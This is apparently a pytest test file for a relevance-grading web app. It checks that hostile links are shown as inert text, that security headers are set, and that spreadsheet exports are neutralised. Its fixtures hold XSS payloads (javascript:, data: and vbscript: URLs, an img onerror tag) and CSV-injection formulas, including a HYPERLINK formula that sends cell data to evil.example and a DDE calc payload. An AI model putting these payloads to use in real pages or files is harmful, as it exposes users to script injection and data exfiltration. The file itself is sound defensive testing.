"""Issue 33, section 4: what the pages render and what the exports hold.

Results whose ``url`` and ``image`` are ``javascript:``, ``data:`` or ``vbscript:`` URLs are
shown as text on every page that shows results; every response carries the security
headers; no page holds an inline script or style (the Content-Security-Policy forbids
them); CSV and TSV exports hold no live spreadsheet formula, and read back as written.
"""

from __future__ import annotations

import json
import re
import shutil

import pytest
from fastapi.testclient import TestClient

from rankscope.services import (
    assignment,
    campaign_runs,
    campaigns,
    catalog,
    exchange,
    grading,
    sessions,
)
from rankscope.services.grading import GradeInput

from .conftest import PASSWORD, STANDIN, make_world
from .trust import app_for

HOSTILE = ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", " javascript:alert(2)",
           "java\tscript:alert(3)", "data:text/html,<script>alert(4)</script>",
           "vbscript:msgbox(5)"]


@pytest.fixture
def hostile(store, tmp_path):
    """A world whose corpus gives every result a hostile url and image."""
    data = tmp_path / "hostile"
    data.mkdir()
    for name in ("baseline.toml", "tuned.toml", "queries.tsv"):
        shutil.copy(STANDIN / name, data / name)
    lines = []
    for i, line in enumerate((STANDIN / "corpus.jsonl").read_text().splitlines()):
        doc = json.loads(line)
        doc["url"] = HOSTILE[i % len(HOSTILE)]
        doc["image"] = HOSTILE[(i + 1) % len(HOSTILE)]
        lines.append(json.dumps(doc))
    (data / "corpus.jsonl").write_text("\n".join(lines) + "\n")
    for name in ("baseline.toml", "tuned.toml"):  # show the image field too
        (data / name).write_text((data / name).read_text() + 'image_field = "image"\n')
    w = make_world(store, data)
    return w, app_for(store, w)


def _signed_in(app, name: str) -> TestClient:
    client = TestClient(app, follow_redirects=False)
    assert client.post("/login", data={"name": name, "password": PASSWORD}).status_code == 303
    return client


def _links(html: str) -> list[str]:
    """Every href and src value, as the page wrote it (entities decoded)."""
    import html as entities

    return [entities.unescape(v) for v in re.findall(r'\b(?:href|src)="([^"]*)"', html)]


def _live_non_http(html: str) -> list[str]:
    bad = []
    for value in _links(html):
        cleaned = re.sub(r"[\t\n\r]", "", value).strip(" \x00-\x1f")
        if cleaned.startswith(("/", "#", "?")) and not cleaned.startswith("//"):
            continue
        if re.match(r"(?i)https?://", cleaned):
            continue
        bad.append(value)
    return bad


def test_hostile_result_links_are_shown_as_text_on_every_page(store, hostile):
    w, app = hostile
    ev = w.evaluation.id
    judge, judge2, curator = (_signed_in(app, who.name) for who in (w.judge, w.judge2,
                                                                     w.curator))
    # a disagreement, so the disagreements page lists a result
    task = assignment.next_task(store, w.judge, ev)
    grading.submit_grade(store, w.judge, GradeInput(task.task_id, 0))
    grading.submit_grade(store, w.judge2, GradeInput(task.task_id, 3))
    query = task.query_id
    pages = {
        "grading": judge.get(f"/evaluations/{ev}/grade"),
        "a task": judge2.get(f"/tasks/{task.task_id}"),
        "the query's list": judge.get(f"/evaluations/{ev}/queries/{query}"),
        "snapshot": curator.get(f"/evaluations/{ev}/snapshot/{query}"),
        "disagreements": curator.get(f"/evaluations/{ev}/disagreements"),
    }
    for name, page in pages.items():
        assert page.status_code == 200, name
        assert _live_non_http(page.text) == [], name
    # the hostile text is still shown, as text (escaped), for the grader to see
    listed = pages["the query's list"].text
    assert "javascript:alert(document.cookie)" in listed or "JaVaScRiPt:alert(1)" in listed
    assert "<script>alert(4)</script>" not in listed


def test_http_links_and_images_stay_live(shared_world):
    store, w = shared_world  # the stand-in corpus: https URLs
    client = _signed_in(app_for(store, w), w.judge.name)
    task = assignment.next_task(store, w.judge, w.evaluation.id)
    page = client.get(f"/evaluations/{w.evaluation.id}/queries/{task.query_id}").text
    assert any(v.startswith("https://docs.python.org/") for v in _links(page))


def test_guidelines_markdown_links_are_http_only(shared_world):
    store, w = shared_world
    campaigns.update_evaluation(store, w.curator, w.evaluation.id, campaigns.EvaluationSettingsSpec(
        guidelines="[a](JaVaScRiPt:alert(1)) [b](vbscript:x) ![c](javascript:y) "
        "[ok](https://example.org)"))
    client = _signed_in(app_for(store, w), w.judge.name)
    page = client.get(f"/evaluations/{w.evaluation.id}/grade").text
    assert _live_non_http(page) == []
    assert "https://example.org" in _links(page)


# -- headers and the policy ------------------------------------------------------------


def test_every_response_carries_the_security_headers(shared_world):
    store, w = shared_world
    app = app_for(store, w)
    anonymous = TestClient(app, follow_redirects=False, raise_server_exceptions=False)
    judge = _signed_in(app, w.judge.name)
    answers = [anonymous.get("/login"), anonymous.get("/projects"), anonymous.get("/api/v1/me"),
               anonymous.get("/static/htmx.min.js"), anonymous.get("/no/such/page"),
               anonymous.post("/login", data={"name": "x", "password": "y"},
                              headers={"Origin": "http://evil.example"}),  # refused: 403
               judge.get(f"/evaluations/{w.evaluation.id}/grade"),
               judge.get("/api/openapi.json")]
    for answer in answers:
        policy = answer.headers.get("content-security-policy", "")
        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy, answer
        assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["x-frame-options"] == "DENY"
        assert answer.headers["referrer-policy"] == "no-referrer"


def test_no_page_holds_an_inline_script_or_style(shared_world):
    # the policy forbids them: a page that relied on one would break in the browser
    store, w = shared_world
    app = app_for(store, w)
    curator, judge, admin = (_signed_in(app, who.name) for who in (w.curator, w.judge, w.admin))
    ev = w.evaluation.id
    task = assignment.next_task(store, w.judge, ev)
    pages = [judge.get(f"/evaluations/{ev}/grade"), judge.get(f"/tasks/{task.task_id}"),
             judge.get(f"/evaluations/{ev}/queries/{task.query_id}"), admin.get("/admin/users"),
             judge.get("/account"), curator.get(f"/projects/{w.project.id}"),
             TestClient(app).get("/login"), TestClient(app).get("/api/docs")]
    pages += [curator.get(f"/evaluations/{ev}{name}") for name in (
        "", "/metrics", "/coverage", "/agreement", "/disagreements", "/history", "/llm")]
    for page in pages:
        assert page.status_code == 200, page.url
        html = page.text
        assert re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", html) == [], page.url
        assert re.findall(r"<style\b|\sstyle=|\son[a-z]+=", html, re.I) == [], page.url


# -- exports ---------------------------------------------------------------------------

FORMULAS = {"=q1": '=HYPERLINK("http://evil.example/?"&A1,"copy a directory tree")',
            "+q2": "+json|' /C calc'!pretty print", "@q3": "@SUM(run a shell command)",
            "-q4": "-parse a date from a string"}
"""Query ids and texts a spreadsheet would run; each query finds results in the corpus."""


@pytest.fixture
def formulas(store, collection):
    w = make_world(store, collection)
    text = "query_id\ttext\n" + "".join(f"{q}\t{t}\n" for q, t in FORMULAS.items())
    qs = catalog.import_query_set(store, w.curator, w.project.id, "formulas", text)
    ev = campaigns.create_evaluation(store, w.curator, w.project.id, campaigns.EvaluationSpec(
        name="formulas", query_set_id=qs.id, endpoint_id=w.endpoint.id, depth=3,
        metrics=["P@3"], grades_wanted=1))
    campaign_runs.run_evaluation(store, w.curator, ev.id, boundary=w.boundary)
    graded = assignment.next_tasks(store, w.judge, ev.id, 1)
    for t in graded:
        grading.submit_grade(store, w.judge, GradeInput(t.task_id, 2))
    exchange.import_grades(store, w.curator, ev.id, b"query_id,doc_id,rater,grade\n"
                           + b"-q4,shutil.copytree,=evil(),1\n",
                           filename="more.csv", rater=None)
    return w, ev.id


def _cells(body: bytes, separator: str) -> list[str]:
    import csv
    import io

    rows = csv.reader(io.StringIO(body.decode()), delimiter=separator)
    return [cell for row in rows if row and not row[0].startswith("#") for cell in row]


@pytest.mark.parametrize("name, separator", [("grades.csv", ","), ("grades.tsv", "\t"),
                                             ("holes.csv", ","), ("quepid.csv", ","),
                                             ("queries.tsv", "\t")])
def test_exports_hold_no_live_formula(store, formulas, name, separator):
    w, ev = formulas
    body, _ = exchange.export(store, w.curator, ev, name)
    cells = _cells(body, separator)
    assert cells, name
    live = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
            or (c[:1] == "-" and not re.fullmatch(r"-\d+(\.\d+)?", c))]
    assert live == [], name
    shown = {c[1:] for c in cells if c.startswith("'")}
    assert shown, name  # the formulas are there, as text


def test_a_neutralised_export_reads_back_as_written(store, formulas, tmp_path):
    from rankscope.judgments.io import read_judgments_frame

    w, ev = formulas
    body, _ = exchange.export(store, w.curator, ev, "grades.csv")
    path = tmp_path / "grades.csv"
    path.write_bytes(body)
    frame, _, _ = read_judgments_frame(path)
    assert set(frame.get_column("query_id")) <= set(FORMULAS)
    assert "=evil()" in set(frame.get_column("rater"))
    # and the app takes its own export back: every row matches the query set
    answer = exchange.import_grades(store, w.curator, ev, body, filename="grades.csv")
    assert answer["imported"] == frame.height
    queries, _ = exchange.export(store, w.curator, ev, "queries.tsv")
    again = catalog.import_query_set(store, w.curator, w.project.id, "again", queries.decode())
    texts = {q["query_id"]: q["text"] for q in catalog.query_set_queries(store, w.curator,
                                                                          again.id)}
    assert texts and all(FORMULAS[q] == t for q, t in texts.items())


def test_tokens_page_escapes_names(shared_world):
    # a token's name is a user's text like any other: escaped, never markup
    store, w = shared_world
    sessions.create_token(store, w.judge.name, '<img src=x onerror=alert(1)>')
    page = _signed_in(app_for(store, w), w.judge.name).get("/account").text
    assert "<img src=x" not in page and "&lt;img src=x" in page
